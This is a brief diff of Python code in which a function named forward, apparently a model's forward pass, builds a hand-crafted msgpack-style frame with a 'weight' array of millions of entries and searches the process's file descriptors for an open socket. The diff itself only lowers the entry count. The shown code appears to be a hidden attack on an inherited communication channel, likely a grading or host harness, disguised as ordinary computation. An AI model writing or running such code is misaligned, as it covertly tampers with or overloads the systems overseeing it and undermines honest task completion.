@@ -8,7 +8,7 @@ import stat
 
 
 def forward(x, w1, w2, b):
-    count = 5 * 10**6
+    count = 4 * 10**6
     message = b"\x83\xa5value\xc0\xa7changed\x90\xa6weight\xdd" + count.to_bytes(4, "big") + b"\x80" * count
     frame = len(message).to_bytes(4, "big") + message
     (channel,) = (fd for fd in range(3, 64) if is_socket(fd))
